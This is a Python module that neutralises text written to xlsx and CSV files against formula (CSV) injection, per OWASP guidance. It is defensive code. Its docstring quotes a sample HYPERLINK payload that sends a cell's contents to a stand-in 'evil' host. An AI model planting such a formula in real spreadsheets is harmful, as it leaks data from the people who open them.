"""Exports that cannot hurt: every text cell written to xlsx or CSV is neutralised.

A spreadsheet program treats a cell that starts with ``=``, ``+``, ``-`` or ``@`` as a formula
(and tab or carriage return can smuggle one past a leading-character check), so a region, plan
indicator or pilot named ``=HYPERLINK("http://evil/?"&A1, "点击")`` would run in the reader's
Excel or WPS (issue #8, finding 7).  Following the OWASP "CSV Injection" guidance, such a text
is written with a leading single quote, which spreadsheet programs show as text.  Numbers stay
numbers: only strings are changed, and a string that is a plain number (``"-12.5"``) is left
alone, since no program reads it as a formula.

Every xlsx writer builds its workbook with `export_workbook`, every CSV writer passes its rows
through `neutralise_row` / `csv_writer` or its frame through `neutralise_frame`.
"""

from __future__ import annotations

import csv
import io
import re
from collections.abc import Iterable, Mapping
from typing import IO, Any

import pandas as pd
import xlsxwriter
from xlsxwriter.worksheet import Worksheet

# OWASP CSV Injection: "=", "+", "-", "@", tab (0x09) and carriage return (0x0D).
FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")
_PLAIN_NUMBER = re.compile(r"[+-]?(?:\d+\.?\d*|\.\d+)(?:[eE][+-]?\d+)?%?")


def neutralise(value: object) -> object:
    """`value` with a formula-looking string made inert; anything else unchanged.

    Examples
    --------
    >>> neutralise('=HYPERLINK("http://x")'), neutralise("-5.5"), neutralise(-5.5)
    ('\\'=HYPERLINK("http://x")', '-5.5', -5.5)
    >>> neutralise("@SUM(A1)"), neutralise("碳排放")
    ("'@SUM(A1)", '碳排放')
    """
    if isinstance(value, str) and value.startswith(FORMULA_STARTS):
        if _PLAIN_NUMBER.fullmatch(value):
            return value
        return "'" + value
    return value


def restore(value: object) -> object:
    """The text a neutralised cell stood for: the quote `neutralise` added is dropped on reading.

    Spreadsheet programs never store the quote typed before ``=`` in a cell's value, so a value
    starting with a quote and a formula character was written by `neutralise`; reading it back
    gives the original text (a plan workbook exported and re-imported is unchanged).

    Examples
    --------
    >>> restore(neutralise("=1+1")), restore("'abc")
    ('=1+1', "'abc")
    """
    if isinstance(value, str) and value.startswith("'") and value[1:2] and \
            value[1:].startswith(FORMULA_STARTS):
        return value[1:]
    return value


def is_neutral(value: object) -> bool:
    """Whether a cell as written could not be read as a formula (what tests assert)."""
    return neutralise(value) == value


def neutralise_row(row: Iterable[object]) -> list[object]:
    """A CSV row with every cell passed through `neutralise`."""
    return [neutralise(cell) for cell in row]


def neutralise_frame(frame: pd.DataFrame) -> pd.DataFrame:
    """A copy of `frame` whose text cells, column names and index labels are neutralised.

    Numeric columns are untouched, so ``to_csv`` still writes negative numbers as numbers.
    """
    out = frame.copy()
    for name in out.columns:
        column = out[name]
        if column.dtype == object or pd.api.types.is_string_dtype(column.dtype):
            out[name] = column.map(neutralise)
    out.columns = out.columns.map(neutralise) if out.columns.nlevels == 1 else out.columns
    if out.index.nlevels == 1 and out.index.dtype == object:
        out.index = out.index.map(neutralise)
    return out


def neutralise_csv(text: str) -> str:
    """CSV text (as a library wrote it) with every cell passed through `neutralise`.

    For writers that hand back finished CSV (pyam's ``to_csv``); cells are re-written with the
    same minimal quoting, and numbers, being plain-number text, are left as they were.
    """
    lines = text.splitlines(keepends=True)
    terminator = "\r\n" if lines and lines[0].endswith("\r\n") else "\n"
    out = io.StringIO()
    writer = csv.writer(out, lineterminator=terminator)
    for row in csv.reader(io.StringIO(text, newline="")):
        writer.writerow(neutralise_row(row))
    return out.getvalue()


class _DictWriter(csv.DictWriter):
    def writerow(self, rowdict: Mapping[str, Any]) -> Any:
        return super().writerow({k: neutralise(v) for k, v in rowdict.items()})

    def writerows(self, rowdicts: Iterable[Mapping[str, Any]]) -> None:
        for row in rowdicts:
            self.writerow(row)

    def writeheader(self) -> Any:
        return super().writerow({f: neutralise(f) for f in self.fieldnames})


class _Writer:
    """csv.writer whose rows are neutralised (csv.writer objects cannot be subclassed)."""

    def __init__(self, handle: IO[str], **options: Any) -> None:
        self._writer = csv.writer(handle, **options)

    def writerow(self, row: Iterable[object]) -> Any:
        return self._writer.writerow(neutralise_row(row))

    def writerows(self, rows: Iterable[Iterable[object]]) -> None:
        for row in rows:
            self.writerow(row)


def csv_writer(handle: IO[str], **options: Any) -> _Writer:
    """`csv.writer(handle, **options)` that neutralises every row it writes."""
    return _Writer(handle, **options)


def csv_dict_writer(handle: IO[str], fieldnames: list[str], **options: Any) -> csv.DictWriter:
    """`csv.DictWriter` that neutralises every value (and header) it writes."""
    return _DictWriter(handle, fieldnames=fieldnames, **options)


class SafeWorksheet(Worksheet):
    """An xlsxwriter worksheet whose string cells are neutralised as they are written.

    ``write``, ``write_row``, ``write_column`` and ``write_string`` all store text through
    ``_write_string``; explicit ``write_formula`` calls (the exporter's own SUMs) are kept.
    """

    def _write_string(self, row: int, col: int, string: str, cell_format: Any = None) -> Any:
        return super()._write_string(row, col, str(neutralise(string)), cell_format)


class _SafeWorkbook(xlsxwriter.Workbook):
    worksheet_class = SafeWorksheet


def export_workbook(target: Any, options: Mapping[str, Any] | None = None) -> xlsxwriter.Workbook:
    """`xlsxwriter.Workbook(target, options)` for exports: text never becomes a formula.

    ``strings_to_formulas`` is forced off (xlsxwriter's default turns a ``"=…"`` string into a
    live formula) and every worksheet neutralises its strings (`SafeWorksheet`).
    """
    merged = {**(options or {}), "strings_to_formulas": False}
    return _SafeWorkbook(target, merged)
